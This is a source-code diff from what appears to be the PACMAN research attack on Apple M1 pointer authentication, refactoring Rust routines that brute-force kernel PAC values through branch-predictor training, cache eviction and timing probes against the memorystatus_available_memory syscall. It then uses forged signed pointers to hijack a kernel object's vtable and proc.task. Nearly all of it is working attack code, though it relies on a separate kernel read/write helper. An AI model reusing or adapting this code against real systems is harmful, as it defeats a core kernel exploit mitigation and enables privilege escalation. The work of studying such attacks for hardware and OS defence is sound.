+    if win_signed != inst_oracle {
+        return Err(PacmanError::WrongPac("vtable entry"));
     }
 
     println!("Bruteforced all the way!");
 
-    // Give it a use:
-    handle.kernel_write(new_vtable, win_signed);
-    handle.kernel_write(victim_object, new_vtable_signed);
+    // Give it a use (and then put the victim back before its new vtable is freed):
+    let mut victim = KernelRestore::new(handle);
+    victim.save_value(victim_object, victim_vtable);
+    handle.kernel_write(new_vtable, win_signed)?;
+    victim.write(victim_object, new_vtable_signed)?;
     try_nonspeculative();
+    victim.restore()?;
+    new_vtable_memory.free()?;
+
+    return Ok(());
 }
 
+/// Syscall number of `memorystatus_available_memory`
 pub const SYS_MEMORYSTATUS_AVAILABLE_MEMORY : u64 = 534;
 
+/// Set by the pressure threads in `pacman_real` once they are running
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
 pub static mut PRESSURE_THREAD_STARTED : bool = false;
 
+/// The LIMIT eviction set the pressure threads in `pacman_real` hammer on
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
 pub static mut PRESSURE_EVSET : Vec<u64> = Vec::new();
 
+/// Call the `memorystatus_available_memory` syscall (the gadget `pacman_real` attacks)
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
 pub unsafe fn memorystatus_available_memory() -> u64 {
     let retval : u64;
     asm!{
@@ -1124,24 +1441,31 @@ pub unsafe fn memorystatus_available_memory() -> u64 {
     return retval;
 }
 
-/// Attack memorystatus_available_memory system call to forge proc.task
-pub unsafe fn pacman_real(memory_region: &mut [u8]) {
-    const NUM_ITERS : usize = 8;
-    const NUM_TRIALS : usize = 12;
-    const MISS_LATENCY : u64 = 62;
-    const EVSET_SIZE : usize  = 12;
-
-    let handle = PacmanKitConnection::init().unwrap();
-    let proc = handle.current_proc().unwrap() | PAC_BITMASK;
-    let holder = proc + 0x10;
-    let proc_task_original_signed = handle.kernel_read(holder).unwrap();
-    let proc_task_original = handle.kernel_read(holder).unwrap() | PAC_BITMASK;
-
-    let proc_task_new = (handle.kernel_mmap().unwrap() | PAC_BITMASK) + 0x4000;
-    handle.kernel_read(proc_task_new).unwrap();
-
-    let salt_data = get_salt(holder, 0xa08a);
-    let proc_task_new_correct = handle.forge_sign_data(proc_task_new, salt_data).unwrap();
+/// Attack memorystatus_available_memory system call to forge proc.task (with the offsets in `profile`)
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub unsafe fn pacman_real<K: KernelPrimitives>(handle: &K, memory_region: &mut [u8], config: &PacmanConfig, profile: &OffsetProfile, sink: &mut dyn ResultsSink) -> Result<(), PacmanError> {
+    let params = &config.real;
+    let proc_task_offset = profile.field(profile::PROC_TASK)?;
+    let proc_condition_offset = profile.field(profile::PROC_CONDITION)?;
+    let task_transmit_offset = profile.field(profile::TASK_TRANSMIT)?;
+    let proc_task_salt = profile.discriminator(profile::PROC_TASK)?;
+
+    let proc = handle.current_proc()? | PAC_BITMASK;
+    let holder = proc + proc_task_offset;
+    let condition = proc + proc_condition_offset;
+    let proc_task_original_signed = handle.kernel_read(holder)?;
+    let proc_task_original = handle.kernel_read(holder)? | PAC_BITMASK;
+
+    // proc.task and the condition are put back however we leave (after proc.task stops pointing at proc_task_new)
+    let proc_task_new_memory = KernelAllocation::new(handle)?;
+    let mut proc_state = KernelRestore::new(handle);
+    proc_state.save_value(holder, proc_task_original_signed);
+    proc_state.save(condition)?;
+    let proc_task_new = (proc_task_new_memory.addr() | PAC_BITMASK) + 0x4000;
+    handle.kernel_read(proc_task_new)?;
+
+    let salt_data = get_salt(holder, proc_task_salt);
+    let proc_task_new_correct = handle.forge_sign_data(proc_task_new, salt_data)?;
 
     let correct_pac = pac::extract_pac(proc_task_new_correct);
     let incorrect_pac = correct_pac ^ (crandom::rand() as u16 % pac::MAX_PAC);
@@ -1151,20 +1475,20 @@ pub unsafe fn pacman_real(memory_region: &mut [u8]) {
     assert_ne!(proc_task_new_correct, proc_task_new_incorrect);
 
     // Setup evset for LIMIT (UNUSED HERE)
-    let limit_va = proc + 0x560;
-    let limit_pa = handle.kernel_virt_to_phys(limit_va).unwrap();
+    let limit_va = condition;
+    let limit_pa = handle.kernel_virt_to_phys(limit_va)?;
     let limit_evset = evset::data_pevset(limit_va, limit_pa, memory_region);
-    let mut limit_evset_chosen : Vec<u64> = limit_evset.choose_multiple(&mut rand::thread_rng(), LIMIT_EVSET_SIZE).into_iter().cloned().collect();
-    let mut limit_evset_indexes : Vec<usize> = (0..limit_evset_chosen.len()).collect();
+    let limit_evset_chosen : Vec<u64> = evset::choose_evset(&limit_evset, config.limit_evset_size, "the LIMIT eviction set")?;
+    let limit_evset_indexes : Vec<usize> = (0..limit_evset_chosen.len()).collect();
 
     PRESSURE_EVSET = limit_evset_chosen.clone();
 
     // Setup evset for the vtable (success data pointer)
-    let new_vtable_va = (proc_task_new_correct + 0x338) | PAC_BITMASK; // +0x338
-    let new_vtable_pa = handle.kernel_virt_to_phys(new_vtable_va).unwrap();
+    let new_vtable_va = (proc_task_new_correct + task_transmit_offset) | PAC_BITMASK;
+    let new_vtable_pa = handle.kernel_virt_to_phys(new_vtable_va)?;
     let new_vtable_evset = evset::data_pevset(new_vtable_va, new_vtable_pa, memory_region);
-    let mut evset_chosen : Vec<u64> = new_vtable_evset.choose_multiple(&mut rand::thread_rng(), EVSET_SIZE).into_iter().cloned().collect();
-    let mut evset_indexes : Vec<usize> = (0..evset_chosen.len()).collect();
+    let evset_chosen : Vec<u64> = evset::choose_evset(&new_vtable_evset, params.evset_size, "the forged pointer eviction set")?;
+    let evset_indexes : Vec<usize> = (0..evset_chosen.len()).collect();
 
     println!("{:X?}", evset_chosen);
     // loop{}
@@ -1175,34 +1499,16 @@ pub unsafe fn pacman_real(memory_region: &mut [u8]) {
     println!("\tCorrect new pointer:     0x{:X}", proc_task_new_correct);
     println!("\tIncorrect new pointer:   0x{:X}", proc_task_new_incorrect);
 
-    let target = PacmanAttackTarget::Direct(
-        DirectTarget{
-            holder: holder,
-            train_ptr: proc_task_original_signed,
-            guess_ptr: proc_task_new | PAC_BITMASK,
-        }
-    );
-
-    let try_speculative = || {
-        handle.kernel_write(proc + 0x560, 0).unwrap();
-        memorystatus_available_memory();
-    };
-
-    let try_nonspeculative = || {
-        handle.kernel_write(proc + 0x560, 1).unwrap();
-        memorystatus_available_memory();
-    };
-
     // DO IT ALL INLINE:
     let correct_ptr = proc_task_new_correct;
     let incorrect_ptr = proc_task_new_incorrect;
     let known_good = proc_task_original_signed;
     let time_use_fn = timer::time_access;
 
-    let mut results = [[0; NUM_ITERS]; NUM_TRIALS];
+    let mut results = vec![Vec::new(); params.num_trials];
 
-    let mut use_correct_pac = [false; NUM_TRIALS];
-    for i in 0..NUM_TRIALS {
+    let mut use_correct_pac = vec![false; params.num_trials];
+    for i in 0..params.num_trials {
         use_correct_pac[i] = crandom::rand() % 2 == 0;
     }
 
@@ -1216,44 +1522,44 @@ pub unsafe fn pacman_real(memory_region: &mut [u8]) {
             if !set_core(CoreKind::PCORE) {
                 panic!("Error setting CPU affinity!");
             }
-            write_volatile(&mut PRESSURE_THREAD_STARTED, true);
+            write_volatile(core::ptr::addr_of_mut!(PRESSURE_THREAD_STARTED), true);
+            let pressure_evset = &*core::ptr::addr_of!(PRESSURE_EVSET);
             loop {
-                for i in 0..PRESSURE_EVSET.len() {
+                for i in 0..pressure_evset.len() {
                     // timer::time_access(limit_evset_chosen_copy[limit_evset_indexes_copy[i]]);
                     // timer::time_access has ISBs in the way- we want to go as fast as possible (do as many loads as we can!)
                     asm!{
                         "ldr {val_out}, [{addr}]",
                         val_out = out(reg) _,
-                        addr = in(reg) PRESSURE_EVSET[i],
+                        addr = in(reg) pressure_evset[i],
                     }
                 }
             }
         });
     }
 
-    while !read_volatile(&PRESSURE_THREAD_STARTED) {}
+    while !read_volatile(core::ptr::addr_of!(PRESSURE_THREAD_STARTED)) {}
 
     // thread::sleep(core::time::Duration::from_millis(1000));
 
-    for trial in 0..NUM_TRIALS {
+    for trial in 0..params.num_trials {
         let value_to_use = if use_correct_pac[trial] {correct_ptr} else {incorrect_ptr};
-        let mut samples = [0; NUM_ITERS];
+        let mut samples = vec![0; params.num_iters];
+        let mut times = vec![0; params.evset_size];
 
-        for iteration in 0..NUM_ITERS+1 {
+        for iteration in 0..params.num_iters+1 {
             // Run a single test case
 
-            assert_eq!(evset_chosen.len(), EVSET_SIZE);
+            assert_eq!(evset_chosen.len(), params.evset_size);
 
             // 1. Train branch predictor on known good pointer
-            handle.kernel_write(holder | PAC_BITMASK, known_good);
-            handle.kernel_write(proc + 0x560, 1).unwrap();
-            for i in 0..4096 {
+            handle.run_batch(Batch::new().write(holder | PAC_BITMASK, known_good).write(condition, 1))?;
+            for _i in 0..4096 {
                 memorystatus_available_memory();
             }
 
             // 2. Write guess
-            handle.kernel_write(proc + 0x560, 0).unwrap();
-            handle.kernel_write(holder | PAC_BITMASK, value_to_use);
+            handle.run_batch(Batch::new().write(condition, 0).write(holder | PAC_BITMASK, value_to_use))?;
 
             // 3. Evict LIMIT- this is ALWAYS a data access!
             for i in 0..limit_evset_indexes.len() {
@@ -1261,7 +1567,7 @@ pub unsafe fn pacman_real(memory_region: &mut [u8]) {
             }
 
             // 4. Prime the cache
-            for i in 0..EVSET_SIZE {
+            for i in 0..params.evset_size {
                 time_use_fn(evset_chosen[evset_indexes[i]]);
             }
 
@@ -1269,22 +1575,15 @@ pub unsafe fn pacman_real(memory_region: &mut [u8]) {
             memorystatus_available_memory();
 
             // 6. Probe (go backwards with .rev() if you want to prevent self-eviction!)
-            let mut times = [0; EVSET_SIZE];
-            for i in (0..EVSET_SIZE) {
+            for i in 0..params.evset_size {
                 times[i] = time_use_fn(evset_chosen[evset_indexes[i]]);
             }
 
             // 7. Cleanup nicely
-            handle.kernel_write(holder | PAC_BITMASK, known_good);
-            handle.kernel_write(proc + 0x560, 0).unwrap();
+            handle.run_batch(Batch::new().write(holder | PAC_BITMASK, known_good).write(condition, 0))?;
 
             // Record the number of misses
-            let mut misses = 0;
-            for i in 0..EVSET_SIZE {
-                if times[i] > MISS_LATENCY {
-                    misses += 1;
-                }
-            }
+            let misses = count_misses(&times, params.miss_latency);
 
             // Skip the first run
             if iteration != 0 {
@@ -1293,28 +1592,20 @@ pub unsafe fn pacman_real(memory_region: &mut [u8]) {
         }
         results[trial] = samples;
     }
-
-    // Post-process and print out results for graphing/ testing
-    for i in 0..NUM_TRIALS {
-        if use_correct_pac[i] {
-            print!("[*] ");
-        }
-        else {
-            print!("[x] ");
-        }
-
-        results[i].sort();
-        let mut avg : f64 = 0.0;
-        let mut total : u64 = 0;
-        for j in 0..results[i].len() {
-            avg += results[i][j] as f64;
-            total += results[i][j]
-        }
-        avg /= results[i].len() as f64;
-        let median = results[i][results[i].len() / 2];
-        let max = results[i][results[i].len() - 2];
-        let min = results[i][2];
-        print!("{}, {}, {}, {}, {}\t", min, median, max, avg, total);
-        println!("{:?}", results[i]);
+    proc_state.restore()?;
+
+    // Record results for graphing/ testing
+    for i in 0..params.num_trials {
+        sink.record(
+            &ExperimentRecord::new("pacman_real")
+                .param("trial", i)
+                .param("correct_pac", use_correct_pac[i])
+                .param_ptr("guess", if use_correct_pac[i] {correct_ptr} else {incorrect_ptr})
+                .param("evset_size", params.evset_size)
+                .param("miss_latency", params.miss_latency)
+                .samples(&results[i])
+        )?;
     }
+
+    return Ok(());
 }